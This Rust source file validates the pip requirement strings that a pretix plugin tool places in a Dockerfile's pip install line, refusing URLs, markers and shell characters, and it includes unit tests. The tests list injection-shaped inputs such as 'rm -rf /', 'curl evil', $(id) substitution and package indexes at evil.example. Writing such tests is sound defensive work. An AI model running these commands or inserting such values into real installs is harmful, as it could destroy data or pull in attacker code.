//! PEP 508 requirement strings, the subset pretix-plugin passes to `pip3 install`: a name,
//! optional extras and PEP 440 version specifiers, written without spaces. URLs (`name @ ...`)
//! and environment markers (`; python_version ...`) are refused: a URL carries characters a
//! shell and a Dockerfile read as syntax, and a marker needs spaces; a local wheel does the job
//! of a URL. Every accepted character is one of `A-Z a-z 0-9 . _ - [ ] , = < > ! ~ * +`, so a
//! requirement can neither start a pip option nor break out of the quoted word in the
//! Dockerfile's `RUN` line.

use std::fmt;

/// A requirement that passed validation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Requirement {
    /// As written in the document (already known to be safe).
    pub text: String,
    /// The distribution name, normalized as PEP 503 says (lowercase, `-` for runs of `-_.`).
    pub name: String,
}

/// Why a requirement string was refused. The message says what to write instead.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RequirementError(String);

impl fmt::Display for RequirementError {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        formatter.write_str(&self.0)
    }
}

/// The longest requirement string accepted (pip has no limit; a plugin name is short).
const MAX_LENGTH: usize = 200;

const EXAMPLE: &str = "write it as pip does, without spaces, e.g. pretix-pages or pretix-pages==1.6.4";

/// Validates one requirement string.
pub fn parse(text: &str) -> Result<Requirement, RequirementError> {
    if text.is_empty() {
        return Err(RequirementError(format!("is empty: {EXAMPLE}")));
    }
    if text.len() > MAX_LENGTH {
        return Err(RequirementError(format!(
            "is longer than {MAX_LENGTH} characters: {EXAMPLE}"
        )));
    }
    if let Some(bad) = text.chars().find(|c| !c.is_ascii() || c.is_ascii_control()) {
        return Err(RequirementError(format!(
            "contains {}: only ASCII letters, digits and . _ - [ ] , = < > ! ~ * + are allowed",
            describe_char(bad)
        )));
    }
    if text.chars().any(|c| c.is_ascii_whitespace()) {
        return Err(RequirementError(format!("contains whitespace: {EXAMPLE}")));
    }
    if text.contains('@') || text.contains("://") {
        return Err(RequirementError(
            "is a URL requirement: download the wheel and list it as {\"path\": \"/srv/...whl\"}, or name a \
             release from PyPI"
                .to_owned(),
        ));
    }
    if text.contains(';') {
        return Err(RequirementError(
            "has an environment marker (;): the image has one Python, list the plugin without it".to_owned(),
        ));
    }
    if let Some(bad) = text.chars().find(|c| !is_allowed(*c)) {
        return Err(RequirementError(format!(
            "contains {}: only ASCII letters, digits and . _ - [ ] , = < > ! ~ * + are allowed",
            describe_char(bad)
        )));
    }
    let name_end = text
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')))
        .unwrap_or(text.len());
    let (name, mut rest) = text.split_at(name_end);
    validate_name(name)?;
    if let Some(after_bracket) = rest.strip_prefix('[') {
        let Some((extras, after)) = after_bracket.split_once(']') else {
            return Err(RequirementError(format!("has an unclosed [: {EXAMPLE}")));
        };
        for extra in extras.split(',') {
            validate_name(extra).map_err(|error| RequirementError(format!("extra {error}")))?;
        }
        rest = after;
    }
    if !rest.is_empty() {
        for specifier in rest.split(',') {
            validate_specifier(specifier)?;
        }
    }
    Ok(Requirement {
        text: text.to_owned(),
        name: normalize_name(name),
    })
}

/// PEP 503 normalization: lowercase, every run of `-`, `_` and `.` becomes one `-`.
pub fn normalize_name(name: &str) -> String {
    let mut normalized = String::with_capacity(name.len());
    let mut in_separator = false;
    for c in name.chars() {
        if matches!(c, '-' | '_' | '.') {
            if !in_separator {
                normalized.push('-');
            }
            in_separator = true;
        } else {
            normalized.push(c.to_ascii_lowercase());
            in_separator = false;
        }
    }
    normalized
}

/// A PEP 508 name: letters and digits at both ends, `.`, `_`, `-` inside.
pub fn validate_name(name: &str) -> Result<(), RequirementError> {
    let bytes = name.as_bytes();
    let valid = match (bytes.first(), bytes.last()) {
        (Some(first), Some(last)) => {
            first.is_ascii_alphanumeric()
                && last.is_ascii_alphanumeric()
                && bytes
                    .iter()
                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'))
        }
        _ => false,
    };
    if valid {
        Ok(())
    } else {
        Err(RequirementError(format!(
            "name {:?} is not a package name: letters and digits, with . _ - only inside ({EXAMPLE})",
            name
        )))
    }
}

fn is_allowed(c: char) -> bool {
    c.is_ascii_alphanumeric()
        || matches!(
            c,
            '.' | '_' | '-' | '[' | ']' | ',' | '=' | '<' | '>' | '!' | '~' | '*' | '+'
        )
}

fn describe_char(c: char) -> String {
    if c.is_ascii_graphic() {
        format!("the character {c:?}")
    } else {
        format!("the character U+{:04X}", u32::from(c))
    }
}

fn validate_specifier(specifier: &str) -> Result<(), RequirementError> {
    let operators = ["===", "==", "!=", "~=", "<=", ">=", "<", ">"];
    let Some(operator) = operators.iter().find(|operator| specifier.starts_with(**operator)) else {
        return Err(RequirementError(format!(
            "version specifier {specifier:?} has no operator: use ==, !=, ~=, <=, >=, < or >, e.g. pretix-pages==1.6.4"
        )));
    };
    if *operator == "===" {
        return Err(RequirementError(
            "uses === (arbitrary equality): use == with a PEP 440 version".to_owned(),
        ));
    }
    let version = &specifier[operator.len()..];
    let (version, wildcard) = match version.strip_suffix(".*") {
        Some(prefix) => (prefix, true),
        None => (version, false),
    };
    if wildcard && !matches!(*operator, "==" | "!=") {
        return Err(RequirementError(format!(
            "version specifier {specifier:?}: a .* wildcard works only with == and !="
        )));
    }
    let parsed = parse_version(version).ok_or_else(|| {
        RequirementError(format!(
            "version {version:?} in {specifier:?} is not a PEP 440 version: write it as 1.2.3, 1.2.3rc1, \
             1.2.3.post1 or 1.2.3.dev1"
        ))
    })?;
    if wildcard && (parsed.has_suffix || parsed.has_local) {
        return Err(RequirementError(format!(
            "version specifier {specifier:?}: a .* wildcard follows release numbers only, e.g. ==1.6.*"
        )));
    }
    if parsed.has_local && !matches!(*operator, "==" | "!=") {
        return Err(RequirementError(format!(
            "version specifier {specifier:?}: a local version (+...) works only with == and !="
        )));
    }
    if *operator == "~=" && parsed.release_segments < 2 {
        return Err(RequirementError(format!(
            "version specifier {specifier:?}: ~= needs at least two numbers, e.g. ~=1.6"
        )));
    }
    Ok(())
}

struct Version {
    release_segments: usize,
    has_suffix: bool,
    has_local: bool,
}

/// PEP 440 versions in their usual spellings: `[N!]N(.N)*[{a|b|rc}N][.postN][.devN][+local]`.
fn parse_version(text: &str) -> Option<Version> {
    let lower = text.to_ascii_lowercase();
    let (public, local) = match lower.split_once('+') {
        Some((public, local)) => (public, Some(local)),
        None => (lower.as_str(), None),
    };
    if let Some(local) = local
        && !local
            .split('.')
            .all(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_alphanumeric()))
    {
        return None;
    }
    let mut rest = public;
    if let Some((epoch, after)) = rest.split_once('!') {
        if !is_number(epoch) {
            return None;
        }
        rest = after;
    }
    let release_end = rest
        .find(|c: char| !(c.is_ascii_digit() || c == '.'))
        .unwrap_or(rest.len());
    let (mut release, mut suffix) = rest.split_at(release_end);
    // A trailing dot belongs to a following `.post` / `.dev`.
    if release.ends_with('.') && !suffix.is_empty() {
        release = &release[..release.len() - 1];
        suffix = &rest[release.len()..];
    }
    if release.is_empty() || !release.split('.').all(is_number) {
        return None;
    }
    let release_segments = release.split('.').count();
    let has_suffix = !suffix.is_empty();
    // In PEP 440's order: one pre-release, then .post, then .dev, each with its number.
    for prefixes in [&["rc", "a", "b"][..], &[".post"], &[".dev"]] {
        if let Some(after) = prefixes.iter().find_map(|prefix| suffix.strip_prefix(prefix)) {
            let digits_end = after.find(|c: char| !c.is_ascii_digit()).unwrap_or(after.len());
            if digits_end == 0 {
                return None;
            }
            suffix = &after[digits_end..];
        }
    }
    suffix.is_empty().then_some(Version {
        release_segments,
        has_suffix,
        has_local: local.is_some(),
    })
}

fn is_number(text: &str) -> bool {
    !text.is_empty() && text.bytes().all(|b| b.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn accepts_what_plugin_readmes_write() {
        for text in [
            "pretix-pages",
            "pretix-pages==1.6.4",
            "pretix_pages>=1.6,<2",
            "pretix-passbook==1.4.0",
            "Pretix.Foo[pdf,extra-2]~=2.1",
            "pretix-foo==1.0.*",
            "pretix-foo!=1.0rc1",
            "pretix-foo==2024.11.0.dev0",
            "pretix-foo==1.0.post2",
            "pretix-foo==1!2.0",
            "pretix-foo==1.0+local.7",
        ] {
            assert!(parse(text).is_ok(), "{text}: {:?}", parse(text));
        }
    }

    #[test]
    fn normalizes_the_name() {
        assert_eq!(
            parse("Pretix__Pages.X==1").map(|r| r.name),
            Ok("pretix-pages-x".to_owned())
        );
    }

    #[test]
    fn refuses_injection_shaped_strings() {
        for (text, expected) in [
            ("pretix-pages; rm -rf /", "whitespace"),
            ("pretix-pages;rm", "environment marker"),
            ("pretix-pages\nRUN curl evil", "U+000A"),
            ("pretix-pages\u{a0}", "U+00A0"),
            ("pretix-pages\u{200b}", "U+200B"),
            ("--index-url=https://evil.example/simple", "URL"),
            ("--index-url=evil", "not a package name"),
            ("-e.", "not a package name"),
            ("pretix-pages$(id)", "'$'"),
            ("pretix-pages`id`", "'`'"),
            ("pretix-pages'x", "'\\''"),
            ("pretix-pages|x", "'|'"),
            ("pretix-pages&&x", "'&'"),
            ("pretix-pages\\", "'\\\\'"),
            ("pretix-pages @ https://evil.example/x.whl", "whitespace"),
            ("pretix-pages@https://evil.example/x.whl", "URL"),
            ("git+https://evil.example/x", "URL"),
            ("./local", "'/'"),
            ("pretix-pages==", "not a PEP 440 version"),
            ("pretix-pages==1.0;x", "environment marker"),
            ("pretix-pages==1.x", "not a PEP 440 version"),
            ("pretix-pages===1.0", "==="),
            ("pretix-pages>=1.*", "wildcard"),
            ("pretix-pages~=1", "two numbers"),
            ("pretix-pages[", "unclosed"),
            ("pretix-pages[-x]", "extra"),
            ("pretix-pages,1.0", "no operator"),
            ("", "empty"),
        ] {
            let error = parse(text).err().map(|error| error.to_string()).unwrap_or_default();
            assert!(
                error.contains(expected),
                "{text:?}: {error:?} should contain {expected:?}"
            );
        }
    }

    #[test]
    fn refuses_a_very_long_string() {
        let text = format!("pretix-{}", "a".repeat(300));
        assert!(parse(&text).is_err());
    }
}
